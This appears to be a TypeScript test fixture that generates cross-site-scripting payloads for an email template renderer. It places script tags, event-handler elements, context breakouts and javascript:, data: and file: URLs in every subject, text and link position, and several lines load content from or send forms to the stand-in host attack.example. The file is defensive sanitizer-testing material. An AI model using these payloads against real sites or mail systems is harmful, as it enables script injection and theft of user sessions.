const call = "alert(1)";
const outside = "https://attack.example";

/** Elements that run, load or send something by themselves. */
const elements = [
  `<script>${call}</script>`,
  `<script src=${outside}/x.js></script>`,
  `<ScRiPt >${call}</sCrIpT>`,
  `<script/x>${call}</script>`,
  `<<script>${call}//<</script>`,
  `<img src=x onerror=${call}>`,
  `<img src="x" onerror="${call}" `,
  `<img src=\`x\` onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x></svg>`,
  `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<object data="${outside}/x"></object>`,
  `<embed src="${outside}/x">`,
  `<body onload=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video src=x onerror=${call}></video>`,
  `<link rel=stylesheet href="${outside}/x.css">`,
  `<style>@import "${outside}/x.css"</style>`,
  `<div style="background:url(${outside}/x)">x</div>`,
  `<meta http-equiv=refresh content="0;url=${outside}">`,
  `<base href="${outside}/">`,
  `<form action="${outside}"><button>x</button></form>`,
  `<a href="javascript:${call}">x</a>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
];

/** Texts that close their context and open another one. */
const breakouts = [
  `"><script>${call}</script>`,
  `'><img src=x onerror=${call}>`,
  `" onmouseover="${call}" x="`,
  `' onfocus='${call}' autofocus x='`,
  `</title><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `</td></tr></table><script>${call}</script>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `\u003cscript\u003e${call}`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `<![endif]--><script>${call}</script>`,
];

/** Addresses that run script, or circumvent the allowed ones. */
const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java&#115;cript:${call}`,
  `java&Tab;script:${call}`,
  `java\tscript:${call}`,
  `&#106;avascript:${call}`,
  `\u0001javascript:${call}`,
  `javascript&colon;${call}`,
  `javascript://example.org/%0A${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${call}>`,
  `file:///etc/passwd`,
  `blob:${outside}/x`,
  `//attack.example/x`,
  `/\\attack.example/x`,
  `\\\\attack.example\\x`,
  `https://attack.example"onmouseover="${call}`,
  `<javascript:${call}>`,
];

type Place = (payload: string) => { subject?: string; markdown?: string };

/** The places of text in a letter. */
const wordPlaces: Record<string, Place> = {
  subject: (payload) => ({ subject: `Hello ${payload}` }),
  paragraph: (payload) => ({ markdown: `Hello ${payload} there` }),
  line: (payload) => ({ markdown: payload }),
  heading: (payload) => ({ markdown: `# ${payload}` }),
  quote: (payload) => ({ markdown: `> - ${payload}` }),
  code: (payload) => ({ markdown: `\`${payload}\`\n\n~~~\n${payload}\n~~~` }),
  "link's words": (payload) => ({ markdown: `[${payload}](https://example.org "${payload}")` }),
  "picture's words": (payload) => ({ markdown: `![${payload}](https://example.org/a.png)` }),
  "button's words": (payload) => ({ markdown: `{{button: ${payload} | /register}}` }),
  fallback: (payload) => ({ markdown: `Hello {{full_name|${payload}}}`, subject: `Hello {{full_name|${payload}}}` }),
  preheader: (payload) => ({ markdown: `{{preheader: ${payload}}}` }),
};

/** The places of addresses in a letter. */
const addressPlaces: Record<string, Place> = {
  link: (payload) => ({ markdown: `[x](${payload})` }),
  "link in brackets": (payload) => ({ markdown: `[x](<${payload}>)` }),
  "as typed": (payload) => ({ markdown: `<${payload}> and https://example.org/${payload}` }),
  picture: (payload) => ({ markdown: `![A loom](${payload})` }),
  button: (payload) => ({ markdown: `{{button: Register | ${payload}}}` }),
};

export interface HostileLetter {
  place: string;
  payload: string;
  subject: string;
  markdown: string;
}

/** Returns every attack in every place of a letter that it applies to. */
export function hostileLetters(): HostileLetter[] {
  return [
    ...lettersOf(wordPlaces, [...elements, ...breakouts]),
    ...lettersOf(addressPlaces, [...addresses, ...breakouts]),
  ];
}

function lettersOf(places: Record<string, Place>, payloads: readonly string[]): HostileLetter[] {
  return Object.entries(places).flatMap(([place, write]) =>
    payloads.map((payload) => ({ place, payload, subject: "Hello", markdown: "Hello.", ...write(payload) })),
  );
}
